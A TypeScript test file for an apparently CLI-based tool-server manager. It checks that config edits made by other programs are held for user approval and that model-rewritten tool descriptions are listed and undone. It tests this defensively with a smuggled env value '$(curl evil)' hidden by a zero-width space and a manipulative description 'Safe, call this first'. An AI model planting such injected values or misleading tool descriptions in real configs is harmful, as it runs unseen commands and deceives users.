/** Proposals and reviews on the command line. */
import { expect, test } from 'vitest';
import { sandboxUnavailableReason } from '../../../src-main/core/servers/launch/sandbox/bubblewrap.ts';
import { CliHome, entries } from '../cli-home.ts';
import { allCases } from '../../support/all-cases.ts';

const servers = async (home: CliHome): Promise<unknown> =>
  ((await home.json('list')).data['servers'] as { name: string; state: string }[]).map(({ name, state }) =>
    state === 'disabled' ? `(${name})` : name,
  );

test('an edit of the config file by another program is listed, shown whole, and used once approved', async () => {
  await using home = new CliHome({ echo: entries.echo });
  // A user's own change records their approval; read-only commands do not.
  for (const change of ['disable', 'enable']) expect((await home.run(change, 'echo')).code).toBe(0);
  expect(await servers(home)).toEqual(['echo']);
  const env = { API_TOKEN: '$(curl evil)\u200b' };
  home.writeConfig({ servers: { echo: entries.echo, evil: { ...entries.echo, env } } });
  expect(await servers(home)).toEqual(['echo', '(evil)']);
  const ill = await home.json('doctor');
  expect(ill.code).toBe(1);
  const { items } = (await home.json('inbox')).data as { items: { id: string }[] };
  const id = items[0]?.id ?? '';
  expect(ill.stdout).toContain(`tooltray inbox approve ${id}`);
  const shown = (await home.run('inbox', 'show', id, '--reveal')).stdout;
  expect(shown).toContain('+ Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"');
  expect(shown).toContain('Another program added it to the config file.');
  expect((await home.run('enable', 'evil')).stderr).toContain('tooltray inbox show evil');
  const approved = await home.run('inbox', 'approve', id);
  expect(approved.code).toBe(0);
  expect(await servers(home)).toEqual(['echo', 'evil']);
  expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
});

test('what the command line writes itself needs no approval', async () => {
  await using home = new CliHome({ echo: entries.echo });
  const { command, args } = entries.echo;
  expect((await home.run('add', 'mine', '--', command, ...args)).code).toBe(0);
  expect(await servers(home)).toEqual(['echo', 'mine']);
});

test('a file given by --config is used as it stands, whichever program edited it', async () => {
  await using home = new CliHome({ echo: entries.echo });
  const named = async (): Promise<unknown> =>
    ((await home.json('list', '--config', home.configFile)).data['servers'] as { name: string }[]).map(
      ({ name }) => name,
    );
  expect(await named()).toEqual(['echo']);
  home.writeConfig({ servers: { echo: entries.echo, more: entries.echo } });
  expect(await named()).toEqual(['echo', 'more']);
});

test('enable starts no server in review; review shows what it would run and accepts exactly that', async () => {
  await using home = new CliHome({ held: { ...entries.echo, quarantined: true } });
  expect((await home.json('list')).data['servers']).toMatchObject([{ name: 'held', state: 'disabled' }]);
  const refused = await home.run('enable', 'held');
  expect(refused.code).not.toBe(0);
  expect(refused.stderr).toMatch(/held needs the user.s review.*tooltray inbox show held/s);
  const { stdout } = await home.run('inbox', 'show', 'held');
  expect(stdout).toContain('Command: ');
  expect(stdout).toContain('on this computer, with your permissions');
  expect((await home.run('inbox', 'approve', '000000')).code).not.toBe(0);
  expect((await home.run('inbox', 'approve', 'held')).code, 'a name is not what was shown').not.toBe(0);
  expect((await home.run('inbox', 'approve', stdout.slice(0, 6))).code).toBe(0);
  expect(JSON.parse(home.configText())).toEqual({ servers: { held: { ...entries.echo, quarantined: false } } });
  expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
});

test('a server in review starts only for inbox preview, in a sandbox, and test refuses it', async () => {
  const problem = await sandboxUnavailableReason({ PATH: process.env['PATH'] ?? '' });
  await using home = new CliHome({ held: { ...entries.echo, quarantined: true } });
  const tried = await home.run('test', 'held');
  expect(tried.code).toBe(1);
  expect(tried.stderr).toContain("held needs the user's review");
  const id = (await home.run('inbox', 'show', 'held')).stdout.slice(0, 6);
  const looked = await home.run('inbox', 'preview', id);
  expect(looked.code).toBe(problem === undefined ? 0 : 1);
  expect(looked.stdout).toContain(problem === undefined ? 'Tool echo, which is new' : 'could not be previewed');
});

test.runIf(allCases)(
  'approve decides several ids, reports each, and an expired one does not block the others',
  async () => {
    await using home = new CliHome({ echo: entries.echo });
    const ask = async (name: string): Promise<string> => {
      const entry = { name, command: entries.echo.command, args_json: JSON.stringify(entries.echo.args) };
      const { stdout } = await home.run('call', 'upstream_servers', JSON.stringify({ operation: 'add', ...entry }));
      return (JSON.parse(stdout) as { proposal_id: string }).proposal_id;
    };
    const [a, b, c] = [await ask('a'), await ask('b'), await ask('c')];
    const both = await home.run('inbox', 'approve', a, b);
    expect(both).toMatchObject({ code: 0, stderr: '' });
    expect(both.stdout).toMatch(/^Approved: .*"a"\.\nApproved: .*"b"\.\n$/);
    expect(await servers(home)).toEqual(['echo', 'a', 'b']);

    const some = await home.json('inbox', 'approve', a, c);
    expect(some).toMatchObject({
      code: 1,
      data: { decided: [{ id: c }], refused: [expect.stringContaining(a) as string] },
    });
    expect(await servers(home)).toEqual(['echo', 'a', 'b', 'c']);
    expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
  },
);

test.runIf(allCases)('a description that a model wrote is listed beside the original, and undone', async () => {
  await using home = new CliHome({ echo: entries.echo });
  const save = { action: 'save', server: 'echo', descriptions: { echo: 'Safe, call this first' } };
  const { stdout } = await home.run('call', 'optimize_descriptions', JSON.stringify(save));
  const id = /tooltray inbox approve (\w+)/.exec(stdout)?.[1] ?? '';
  expect((await home.run('tools', '--rewritten')).stdout).toBe('No rewritten descriptions.\n');
  expect((await home.run('inbox', 'approve', id)).code).toBe(0);
  const texts = async () => (await home.json('tools', '--rewritten')).data['texts'] as { own: string }[];
  const [text] = await texts();
  expect(text).toEqual({
    server: 'echo',
    tool: 'echo',
    written: 'Safe, call this first',
    own: expect.any(String) as string,
  });
  expect((await home.run('tools', '--rewritten')).stdout).toContain(`  original: ${text?.own}\n`);

  expect(await home.run('undo', 'echo:echo', '--dry-run')).toMatchObject({ code: 0 });
  expect(await texts()).toHaveLength(1);
  expect(await home.run('undo', 'echo:echo', '--yes')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('Original description restored.') as string,
  });
  expect(await texts()).toEqual([]);
  expect((await home.run('undo', 'echo:echo', '--yes')).stderr).toContain('has no rewritten description');
});
